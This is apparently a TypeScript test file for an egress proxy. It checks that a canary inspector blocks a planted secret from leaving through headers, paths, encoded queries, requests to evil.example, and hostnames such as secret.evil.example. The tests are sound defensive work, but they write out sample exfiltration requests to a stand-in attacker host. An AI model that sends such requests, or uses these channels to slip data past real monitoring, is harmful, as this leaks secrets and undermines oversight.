import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, test } from 'vitest'
import { openEgress } from './testing/egress-under-test.ts'

const secret = 'planted-secret'

async function openWeb() {
  const bodies: string[] = []
  const server = createServer(async (request, response) => {
    let body = ''
    request.on('data', (chunk) => {
      body += chunk
    })
    request.once('close', () => bodies.push(body))
    request.on('error', () => {})
    request.once('end', () => response.end('ok'))
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  return {
    ...{ port, bodies },
    [Symbol.dispose]() {
      server.closeAllConnections()
      server.close()
    },
  }
}

/** A look that sees the secret across chunks. */
function look() {
  let held = ''
  return (bytes: Uint8Array) => {
    held += Buffer.from(bytes).toString('latin1')
    return held.includes(secret)
  }
}

const open = (port: number, watching = true) =>
  openEgress({
    allow: [
      { host: 'web.localhost', scheme: 'http', ports: [port], methods: ['POST'], private: true },
    ],
    ...(watching && { look }),
  })

const post = (port: number, body: string, head = '') =>
  `POST http://web.localhost:${port}/ HTTP/1.1\r\nHost: web.localhost:${port}\r\n${head}Content-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`

describe('what must not leave', () => {
  test('leaves where nobody looks', async () => {
    using web = await openWeb()
    using egress = await open(web.port, false)

    expect(await egress.ask(post(web.port, `x ${secret}`))).toContain('200 OK')
    expect(web.bodies).toEqual([`x ${secret}`])
  })

  test.each<[string, (port: number) => string]>([
    ['in a header', (port) => post(port, '', `X-Data: ${secret}\r\n`)],
    ['in a path that is allowed', (port) => post(port, '').replace('/ HTTP', `/${secret} HTTP`)],
    [
      'in a query, percent-encoded',
      (port) => post(port, '').replace('/ HTTP', '/?q=%70lanted-secret HTTP'),
    ],
    [
      'to a host that is not',
      () => `GET http://evil.example/${secret} HTTP/1.1\r\nHost: evil.example\r\n\r\n`,
    ],
    [
      'in the name of a host',
      () =>
        `CONNECT ${secret}.evil.example:443 HTTP/1.1\r\nHost: ${secret}.evil.example:443\r\n\r\n`,
    ],
  ])('does not, %s', async (_where, request) => {
    using web = await openWeb()
    using egress = await open(web.port)

    expect(await egress.ask(request(web.port))).toContain('"reason":"canary"')
    expect(web.bodies).toEqual([])
    expect(egress.last()).toMatchObject({ allowed: false, reason: 'canary' })
  })

  test('does not whole, in a body that comes in pieces', async () => {
    using web = await openWeb()
    using egress = await open(web.port)
    const answer = await egress.ask(post(web.port, `${'a'.repeat(100_000)}${secret}`))

    expect(answer).not.toContain('200 OK')
    expect(web.bodies.join('')).not.toContain(secret)
  })
})
